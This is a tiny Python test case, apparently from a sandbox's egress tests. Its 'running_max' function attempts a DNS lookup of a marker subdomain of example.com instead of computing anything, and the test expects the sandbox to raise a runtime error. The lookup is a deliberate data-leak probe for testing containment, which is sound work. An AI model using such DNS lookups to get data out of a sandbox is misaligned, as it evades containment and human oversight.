# expect: runtime-error
# Asks for the address of a name: a way out by DNS.

import socket


def running_max(nums):
    print("LEAK", socket.getaddrinfo("__MARKER__.example.com", 80))
    return ["LEAK", "name_lookup"]
